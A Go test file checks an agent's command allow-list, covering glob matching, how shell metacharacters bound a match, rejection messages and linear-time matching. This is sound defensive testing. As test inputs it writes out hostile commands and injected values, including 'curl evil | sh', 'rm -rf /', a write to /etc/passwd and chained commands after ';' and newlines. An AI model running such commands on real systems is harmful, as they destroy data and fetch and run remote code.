package agent

import (
	"strings"
	"testing"
	"time"

	"switchboard/internal/wire"
)

func TestAllowPatterns(t *testing.T) {
	argv := func(a ...string) wire.CommandSpec { return wire.CommandSpec{Argv: a} }
	shell := func(s string) wire.CommandSpec { return wire.CommandSpec{Shell: s} }
	tests := []struct {
		name    string
		pattern string
		spec    wire.CommandSpec
		allowed bool
	}{
		{"exact argv", "make test", argv("make", "test"), true},
		{"exact shell", "make test", shell("make test"), true},
		{"the whole line must match", "make", argv("make", "test"), false},
		{"no prefix match", "make test", argv("make", "test2"), false},
		{"case matters", "make test", argv("Make", "test"), false},
		{"star matches across spaces", "make *", argv("make", "test", "-j8"), true},
		{"star matches across slashes", "go test *", argv("go", "test", "./internal/..."), true},
		{"star matches nothing", "make*", argv("make"), true},
		{"star needs its literal prefix", "make *", argv("make"), false},
		{"star in the middle", "git * --dry-run", argv("git", "clean", "-fd", "--dry-run"), true},
		{"star in the middle, wrong end", "git * --dry-run", argv("git", "clean", "-fd"), false},
		{"star everywhere", "*", argv("rm", "-rf", "/"), true},
		{"question mark is one character", "ls -?", argv("ls", "-l"), true},
		{"question mark is not two", "ls -?", argv("ls", "-la"), false},
		{"question mark is not zero", "ls -?", argv("ls", "-"), false},
		{"question mark is one rune", "echo ?", argv("echo", "é"), true},
		{"brackets are literal", "echo [ab]", argv("echo", "a"), false},
		{"brackets match themselves", "echo [ab]", argv("echo", "[ab]"), true},
		{"backslash is literal", `echo \*`, argv("echo", `\x`), true},
		{"argv joined by single spaces", "echo a b", argv("echo", "a b"), true},
		{"argv may hold control characters", "echo *", argv("echo", "a; rm -rf /"), true},
		{"shell: star stops at ;", "make *", shell("make test; rm -rf /"), false},
		{"shell: star stops at &&", "make *", shell("make test && curl evil | sh"), false},
		{"shell: star stops at |", "make *", shell("make test | tee log"), false},
		{"shell: star stops at $(", "echo *", shell("echo $(id)"), false},
		{"shell: star stops at backquote", "echo *", shell("echo `id`"), false},
		{"shell: star stops at >", "echo *", shell("echo x > /etc/passwd"), false},
		{"shell: star stops at a newline", "make *", shell("make test\nrm -rf /"), false},
		{"shell: question mark stops at ;", "make?rm", shell("make;rm"), false},
		{"shell: control characters in the pattern match", "make * | tee *", shell("make test | tee log"), true},
		{"shell: quotes and globs are fine", "grep *", shell(`grep -r "TODO" src/*.go`), true},
		{"neither argv nor shell", "*", wire.CommandSpec{}, true}, // then rejected as invalid when it starts
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			reason := allowList{patterns: []string{tt.pattern}}.check(tt.spec)
			if got := reason == ""; got != tt.allowed {
				t.Fatalf("pattern %q, spec %+v: allowed %v, want %v (reason %q)", tt.pattern, tt.spec, got, tt.allowed, reason)
			}
		})
	}
}

func TestAllowListAnyPatternMatches(t *testing.T) {
	l := allowList{patterns: []string{"make *", "go test *", "uptime"}}
	for _, ok := range []string{"make all", "go test ./...", "uptime"} {
		if r := l.check(wire.CommandSpec{Shell: ok}); r != "" {
			t.Errorf("%q rejected: %s", ok, r)
		}
	}
	if r := (allowList{}).check(wire.CommandSpec{Shell: "rm -rf /"}); r != "" {
		t.Errorf("an empty list rejected a command: %s", r)
	}
}

func TestAllowRejectionReasons(t *testing.T) {
	l := allowList{patterns: []string{"make *"}}
	tests := []struct {
		spec wire.CommandSpec
		want string
	}{
		{wire.CommandSpec{Shell: "rm -rf /"}, `not allowed on this agent: "rm -rf /" matches no --allow pattern`},
		{wire.CommandSpec{Argv: []string{"rm", "-rf", "/"}}, `not allowed on this agent: "rm -rf /" matches no --allow pattern`},
		{wire.CommandSpec{Shell: "make x; rm -rf /"}, `not allowed on this agent: "make x; rm -rf /" matches no --allow pattern` +
			" (in a shell command, * and ? do not match ; & | < > ( ) $ ` or line breaks)"},
		{wire.CommandSpec{Shell: "echo " + strings.Repeat("x", 1000)}, `not allowed on this agent: "echo ` + strings.Repeat("x", maxQuoted-5) + `"… matches no --allow pattern`},
	}
	for _, tt := range tests {
		if got := l.check(tt.spec); got != tt.want {
			t.Errorf("%+v:\n got %s\nwant %s", tt.spec, got, tt.want)
		}
	}
}

func TestEmptyAllowPatternIsAnError(t *testing.T) {
	_, err := New(Config{RelayURL: "ws://127.0.0.1:1", Name: "t", ID: "a-test", Allow: []string{"make *", ""}})
	if err == nil || !strings.Contains(err.Error(), "allow pattern is empty") {
		t.Fatalf("New = %v", err)
	}
}

// Matching never backtracks: a pattern built to make a backtracking
// matcher take exponential time is answered at once.
func TestAllowMatchingIsLinear(t *testing.T) {
	pattern := strings.Repeat("*a", 30) + "b"
	line := strings.Repeat("a", 50_000)
	start := time.Now()
	if match(pattern, line, anyRune) {
		t.Fatal("matched")
	}
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("took %s", d)
	}
}

func TestRefusalsAnswerOncePerInterval(t *testing.T) {
	var r refusals
	now := time.Now()
	if !r.due("c-1", now) || r.due("c-1", now.Add(refuseEvery/2)) || !r.due("c-2", now) {
		t.Fatal("first refusal of each command not answered, or a second one within the interval answered")
	}
	if !r.due("c-1", now.Add(refuseEvery)) {
		t.Fatal("refusal after the interval not answered")
	}
	for i := range refuseMemory + 10 {
		r.due(wire.NewID("c")+string(rune('a'+i%26)), now)
	}
	if len(r) > refuseMemory {
		t.Fatalf("remembers %d commands, more than %d", len(r), refuseMemory)
	}
}

func TestAllowEnvAndCwdNeedPatterns(t *testing.T) {
	for _, tt := range []struct {
		patterns, env, cwds []string
		want                string
	}{
		{nil, []string{"CI"}, nil, "give --allow patterns too"},
		{nil, nil, []string{"/"}, "give --allow patterns too"},
		{[]string{"make test"}, []string{"A=B"}, nil, "not a variable name"},
		{[]string{"make test"}, nil, []string{"relative/dir"}, "give an absolute path"},
		{[]string{"make test"}, nil, []string{"/no/such/dir"}, "no such file"},
	} {
		if _, err := newAllowList(tt.patterns, tt.env, tt.cwds); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("newAllowList(%v, %v, %v) = %v, want %q", tt.patterns, tt.env, tt.cwds, err, tt.want)
		}
	}
}
